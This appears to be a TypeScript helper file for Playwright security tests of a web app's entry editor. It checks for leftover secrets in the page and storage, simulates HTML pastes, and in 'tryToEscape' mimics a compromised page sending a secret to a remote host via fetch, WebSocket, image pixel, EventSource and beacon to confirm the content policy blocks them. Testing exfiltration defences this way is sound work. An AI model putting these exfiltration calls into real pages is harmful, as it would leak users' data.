import type { Page } from '@playwright/test';

// Scripts that run inside the page. They are kept as source text because this side of the
// project is typed for Node, not the DOM; each is wrapped in a typed function.

export type Leftovers = Readonly<{
  markup: boolean;
  text: boolean;
  fields: boolean;
  localStorage: number;
  sessionStorage: number;
  databases: number;
  caches: number;
}>;

export const CLEAN_PAGE: Leftovers = {
  markup: false,
  text: false,
  fields: false,
  localStorage: 0,
  sessionStorage: 0,
  databases: 0,
  caches: 0,
};

/** What of a secret is still anywhere in the page: markup, text, form fields, storage. */
export function leftovers(page: Page, secret: string): Promise<Leftovers> {
  return page.evaluate(`(async (secret) => {
    const fields = [...document.querySelectorAll('input, textarea')];
    return {
      markup: document.documentElement.outerHTML.includes(secret),
      text: document.body.innerText.includes(secret),
      fields: fields.some((field) => field.value.includes(secret)),
      localStorage: localStorage.length,
      sessionStorage: sessionStorage.length,
      databases: (await indexedDB.databases()).length,
      caches: (await caches.keys()).length,
    };
  })(${JSON.stringify(secret)})`);
}

/** Pastes HTML into the entry editor, as a copy from a web page would arrive. */
export function pasteHtml(page: Page, html: string, text: string): Promise<void> {
  return page.evaluate(`(() => {
    const data = new DataTransfer();
    data.setData('text/html', ${JSON.stringify(html)});
    data.setData('text/plain', ${JSON.stringify(text)});
    document
      .querySelector('[aria-label="Entry text"]')
      .dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true }));
  })()`);
}

export type EscapeAttempts = Readonly<{
  fetched: string;
  socket: string;
  image: string;
  events: string;
  violations: readonly string[];
}>;

/** A compromised page trying every way out it has: fetch, a socket, an image, a stream, a beacon. */
export function tryToEscape(page: Page, remote: string): Promise<EscapeAttempts> {
  return page.evaluate(`(async (remote) => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.blockedURI));
    const fetched = await fetch(remote + '/collect', { method: 'POST', body: 'secret' }).then(
      () => 'reached',
      () => 'refused',
    );
    const socket = await new Promise((resolve) => {
      try {
        const ws = new WebSocket(remote.replace('https', 'wss') + '/live');
        ws.onopen = () => resolve('reached');
        ws.onerror = () => resolve('refused');
      } catch {
        resolve('refused');
      }
    });
    const image = await new Promise((resolve) => {
      const img = new Image();
      img.onload = () => resolve('reached');
      img.onerror = () => resolve('refused');
      img.src = remote + '/pixel.png?d=secret';
      document.body.append(img);
    });
    const events = await new Promise((resolve) => {
      const source = new EventSource(remote + '/events');
      source.onopen = () => resolve('reached');
      source.onerror = () => {
        source.close();
        resolve('refused');
      };
    });
    try {
      navigator.sendBeacon(remote + '/beacon', 'secret');
    } catch {
      // Refused outright: just as good.
    }
    await new Promise((resolve) => setTimeout(resolve, 250));
    return { fetched, socket, image, events, violations };
  })(${JSON.stringify(remote)})`);
}
